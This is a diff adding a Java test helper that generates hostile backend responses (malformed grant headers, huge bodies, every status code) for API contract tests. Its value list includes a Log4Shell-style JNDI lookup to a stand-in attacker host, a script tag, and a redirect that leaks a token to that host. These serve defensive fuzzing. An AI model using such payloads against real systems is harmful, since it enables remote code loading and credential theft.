@@ -1,0 +1,76 @@
+package tv.usher.api.contract;
+
+import java.util.ArrayList;
+import java.util.List;
+import java.util.Locale;
+import java.util.stream.IntStream;
+import java.util.stream.Stream;
+import tv.usher.api.BackendResponse;
+import tv.usher.api.Header;
+
+/** What middlewares, and what stands in for them, may answer at their worst: each with every status. */
+final class HostileAnswers {
+
+    /** Stands where answers carry what mustn't be shown. */
+    static final String TOKEN = "a45e7ca45e7ca45e7ca45e7ca45e7ca4";
+
+    private static final List<String> GRANT_HEADERS =
+            List.of("X-UserId", "X-AuthDuration", "X-Max-Sessions", "X-Unique", "X-Session-Name");
+
+    private static final List<String> VALUES = List.of(
+            "",
+            " ",
+            "0",
+            "-1",
+            "1",
+            "+5",
+            "10, 20",
+            "1e9",
+            "0x1F",
+            "99999999999",
+            "99999999999999999999999999",
+            "true",
+            "false",
+            "NaN",
+            "\u00b2\u00ff",
+            "${jndi:ldap://evil.example.com/a}",
+            "<script>",
+            "x".repeat(65_536));
+
+    private HostileAnswers() {}
+
+    /** The given answers with every status, and worse ones. */
+    static List<BackendResponse> like(List<BackendResponse> recorded) {
+        List<BackendResponse> seeds = new ArrayList<>(recorded);
+        VALUES.forEach(value -> seeds.add(grant(value)));
+        seeds.add(answer(Stream.of(header("Location", "http://evil.example.com/?token=" + TOKEN)), ""));
+        seeds.add(answer(Stream.of(header("Set-Cookie", TOKEN), header("WWW-Authenticate", TOKEN)), "token=" + TOKEN));
+        seeds.add(answer(Stream.of(header("Content-Type", "application/json")), "{\"token\":\"" + TOKEN + "\"}"));
+        seeds.add(answer(
+                GRANT_HEADERS.stream().flatMap(it -> Stream.of(header(it, "1"), header(lower(it), "2"))), "1"));
+        seeds.add(answer(IntStream.range(0, 10_000).mapToObj(i -> header("X-" + i, "x")), "\0\ufffd"));
+        seeds.add(answer(Stream.of(), "<html>".repeat(100_000)));
+        return seeds.stream().flatMap(HostileAnswers::withEveryStatus).toList();
+    }
+
+    private static Stream<BackendResponse> withEveryStatus(BackendResponse seed) {
+        return IntStream.rangeClosed(200, 999)
+                .mapToObj(status -> new BackendResponse(status, seed.headers(), seed.body()));
+    }
+
+    private static BackendResponse grant(String value) {
+        return answer(GRANT_HEADERS.stream().map(name -> header(name, value)), value);
+    }
+
+    private static BackendResponse answer(Stream<Header> headers, String body) {
+        return new BackendResponse(200, headers.toList(), body);
+    }
+
+    private static Header header(String name, String value) {
+        return new Header(name, value);
+    }
+
+    private static String lower(String name) {
+        return name.toLowerCase(Locale.ROOT);
+    }
+}
